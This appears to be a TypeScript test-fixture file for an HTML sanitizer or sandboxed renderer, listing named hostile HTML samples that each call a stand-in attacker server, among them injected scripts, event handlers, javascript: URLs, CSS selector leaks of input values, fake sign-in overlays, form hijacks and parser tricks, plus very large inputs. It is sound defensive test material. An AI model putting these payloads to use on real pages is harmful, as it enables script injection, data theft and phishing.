/** Html that tries to act, by what it tries. `{evil}` stands for the URL of the sender's own server. */
export const HOSTILE_HTML: readonly (readonly [name: string, html: string])[] = [
  ["a script", `<script>parent.postMessage("ran","*");fetch("{evil}/script")</script>`],
  [
    "a script of the attacker's",
    `<script src="{evil}/a.js"></script><script type=module src="{evil}/m.js"></script>`,
  ],
  [
    "handlers",
    `<img src=x onerror="fetch('{evil}/error')"><body onload="fetch('{evil}/load')"><details open ontoggle="fetch('{evil}/toggle')">`,
  ],
  [
    "javascript: URLs",
    `<a id=go href="javascript:fetch('{evil}/href')">a</a><iframe src="javascript:fetch('{evil}/frame')"></iframe>`,
  ],
  [
    "SVG with a script",
    `<svg xmlns="http://www.w3.org/2000/svg"><script>fetch("{evil}/svg")</script><a xlink:href="javascript:fetch('{evil}/svga')"><text y=20>x</text></a><image href="{evil}/svg.png"/><use href="{evil}/use.svg#a"/><foreignObject><iframe src="{evil}/foreign"></iframe></foreignObject></svg>`,
  ],
  [
    "SVG animation",
    `<svg><a><animate attributeName=href values="javascript:fetch('{evil}/animate')"/><text y=20>x</text></a><set attributeName=onmouseover to="fetch('{evil}/set')"/></svg>`,
  ],
  [
    "CSS that reads the page",
    `<input value="secret"><style>@import "{evil}/import.css";@font-face{font-family:x;src:url({evil}/font.woff)}input[value^=s]{background:url({evil}/leak?s)}body{font-family:x;cursor:url({evil}/cursor),auto;list-style-image:url({evil}/list)}@page{background:url({evil}/page)}</style><link rel=stylesheet href="{evil}/sheet.css">`,
  ],
  [
    "a form",
    `<form id=f action="{evil}/form" method=post><input name=a value=b autofocus><button id=go formaction="{evil}/formaction">a</button><input type=image src="{evil}/button.png"></form>`,
  ],
  [
    "a refresh",
    `<meta http-equiv=refresh content="0;url={evil}/refresh"><META HTTP-EQUIV="Refresh" CONTENT="0;URL={evil}/refresh2">`,
  ],
  ["a base", `<base href="{evil}/base/" target="_top"><a id=go href="link">a</a><img src="picture.png">`],
  [
    "links to data and to the top",
    `<a id=go target=_top href="{evil}/top">a</a><a href="data:text/html,<script>fetch('{evil}/data')</script>" target=_self>b</a><iframe src="data:text/html,<script>fetch('{evil}/data2')</script>"></iframe>`,
  ],
  [
    "hints to the browser",
    `<link rel=preconnect href="{evil}"><link rel=dns-prefetch href="{evil}"><link rel=prefetch href="{evil}/prefetch"><link rel=preload as=image href="{evil}/preload.png"><LINK REL=modulepreload HREF="{evil}/mp.js"><link\f rel=icon href="{evil}/icon.png"><link/rel=prerender href="{evil}/prerender"><meta http-equiv=x-dns-prefetch-control content=on>`,
  ],
  [
    "frames and plugins",
    `<iframe src="{evil}/iframe"></iframe><object data="{evil}/object"></object><embed src="{evil}/embed"><frameset><frame src="{evil}/frame"></frameset><iframe srcdoc="<script>fetch('{evil}/srcdoc')</script>"></iframe><portal src="{evil}/portal"></portal>`,
  ],
  [
    "media",
    `<video src="{evil}/video" poster="{evil}/poster" autoplay></video><audio src="{evil}/audio" autoplay></audio><picture><source srcset="{evil}/source.png"><img srcset="{evil}/srcset.png 2x" src="{evil}/img.png" referrerpolicy=unsafe-url></picture><table background="{evil}/table.png"><tr><td background="{evil}/td.png">x</table><track src="{evil}/track">`,
  ],
  [
    "a document that ends and begins again",
    `</body></html><script>fetch("{evil}/after")</script><html manifest="{evil}/manifest"><!--><script>fetch("{evil}/comment")</script>--><title><a href="</title><img src={evil}/title.png>">`,
  ],
  [
    "a template of shadow DOM",
    `<div><template shadowrootmode=open><script>fetch("{evil}/shadow")</script><img src="{evil}/shadow.png"></template></div>`,
  ],
  [
    "a page over the page",
    `<div style="position:fixed;inset:0;z-index:2147483647;background:red">Sign in again</div><dialog open>Sign in</dialog>`,
  ],
  [
    "a meta policy of its own",
    `<meta http-equiv=Content-Security-Policy content="default-src *; script-src 'unsafe-inline'"><script>fetch("{evil}/meta")</script><meta name=referrer content=unsafe-url>`,
  ],
];

/** Html that is only large, by its kind. */
export const HUGE_HTML: readonly (readonly [name: string, html: () => string])[] = [
  ["2 MB of text", () => "<p>words and words</p>".repeat(94_000)],
  ["100 000 elements", () => "<i>x</i>".repeat(100_000)],
  ["100 000 nested elements", () => "<div>".repeat(100_000)],
  ["a table of 50 000 cells", () => `<table>${`<tr>${"<td>x</td>".repeat(50)}</tr>`.repeat(1000)}</table>`],
  ["one word of a million letters", () => "x".repeat(1_000_000)],
  ["20 000 references to a picture", () => `<img src="cid:dot">`.repeat(20_000)],
];
